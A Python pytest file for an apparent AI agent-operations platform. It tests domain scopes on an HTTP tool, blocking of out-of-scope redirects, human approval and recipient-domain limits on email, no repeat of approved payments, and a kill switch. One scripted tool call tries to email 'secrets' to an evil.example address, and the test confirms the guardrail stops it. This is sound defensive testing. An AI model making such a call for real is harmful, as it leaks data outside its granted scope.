"""General tools: scopes enforced before anything leaves, the ledger prevents doing anything twice."""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, HTTPServer

import pytest
from django.core import mail
from django.core.management import call_command

from agentops.approvals.models import Approval
from agentops.approvals.services import approval_decide
from agentops.runs.controller import execute_run
from agentops.runs.models import ExecutionStatus, StepKind, ToolExecution


@pytest.fixture
def web_server():
    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args):
            pass

        def do_GET(self):
            hits.append(self.path)
            if self.path == "/redirect":
                self.send_response(302)
                self.send_header("Location", "http://evil.example/")
                self.end_headers()
                return
            body = b"hello from the allowed host"
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    server = HTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", hits
    server.shutdown()


def one_call(name: str, **arguments) -> list[dict]:
    return [{"text": "t", "tool_calls": [{"name": name, "arguments": arguments}]}, {"text": "done"}]


def test_http_get_reaches_an_allowed_domain(make_agent, start_run, web_server):
    url, hits = web_server
    run = start_run(make_agent(script=one_call("http_get", url=url + "/page"), grants={"http_get": {"domains": ["127.0.0.1"]}}))
    assert "hello from the allowed host" in run.steps.get(kind=StepKind.OBSERVATION).payload["output"]
    assert hits == ["/page"]


def test_http_get_refuses_a_domain_outside_its_scope_without_sending_anything(make_agent, start_run, web_server):
    url, hits = web_server
    run = start_run(make_agent(script=one_call("http_get", url=url.replace("127.0.0.1", "localhost") + "/x"), grants={"http_get": {"domains": ["127.0.0.1"]}}))
    assert run.steps.filter(kind=StepKind.GUARDRAIL, payload__guard="scope").exists()
    assert hits == []


def test_http_get_does_not_follow_redirects_out_of_scope(make_agent, start_run, web_server):
    url, hits = web_server
    run = start_run(make_agent(script=one_call("http_get", url=url + "/redirect"), grants={"http_get": {"domains": ["127.0.0.1"]}}))
    assert run.steps.get(kind=StepKind.OBSERVATION).payload["output"].startswith("HTTP 302")
    assert hits == ["/redirect"]


def test_send_email_waits_for_a_person_then_respects_recipient_domains(make_agent, start_run, settings, django_user_model):
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    script = [
        {"text": "mail", "tool_calls": [{"name": "send_email", "arguments": {"to": ["cfo@example.com"], "subject": "Report", "body": "All good."}}]},
        {"text": "mail", "tool_calls": [{"name": "send_email", "arguments": {"to": ["someone@evil.example"], "subject": "Data", "body": "secrets"}}]},
        {"text": "done"},
    ]
    run = start_run(make_agent(script=script, grants={"send_email": {"recipient_domains": ["example.com"]}}, trust_phase=3))
    admin = django_user_model.objects.create_superuser("boss", password="pw")
    assert run.status == "waiting_approval" and mail.outbox == []
    approval_decide(approval=Approval.objects.get(run=run, status="pending"), actor=admin, approve=True)
    execute_run(run.pk)
    approval_decide(approval=Approval.objects.get(run=run, status="pending"), actor=admin, approve=True)
    execute_run(run.pk)
    run.refresh_from_db()
    assert run.status == "succeeded"
    assert [m.to for m in mail.outbox] == [["cfo@example.com"]]
    assert run.steps.filter(kind=StepKind.GUARDRAIL, payload__guard="scope").exists()


def test_a_resumed_call_returns_the_recorded_result_and_never_acts_twice(make_agent, start_run, tmp_path, django_user_model):
    ledger = tmp_path / "payments"
    run = start_run(make_agent(script=one_call("test_pay", text="100"), grants={"test_pay": {"path": str(ledger)}}, trust_phase=3))
    approval = Approval.objects.get(run=run)
    # As if a previous worker had executed the approved call and died before recording its observation.
    ToolExecution.objects.create(
        key=f"run-{run.pk}:{approval.tool_call_id}",
        run=run,
        tool="test_pay",
        arguments=approval.arguments,
        status=ExecutionStatus.SUCCEEDED,
        result={"output": "paid (recorded)", "is_error": False, "data": {}},
    )
    approval_decide(approval=approval, actor=django_user_model.objects.create_superuser("boss", password="pw"), approve=True)
    execute_run(run.pk)
    run.refresh_from_db()
    assert run.status == "succeeded"
    assert not ledger.exists()
    assert run.steps.get(kind=StepKind.OBSERVATION).payload["output"] == "paid (recorded)"


def test_the_kill_switch_commands_engage_and_release(db, capsys):
    from agentops.guardrails.models import ControlState

    call_command("agentops", "kill", "--reason", "incident 9")
    state = ControlState.objects.get(pk=1)
    assert state.engaged and state.reason == "incident 9" and state.engaged_by_label.startswith("cli:")
    call_command("agentops", "release", "--reason", "resolved")
    assert not ControlState.objects.get(pk=1).engaged
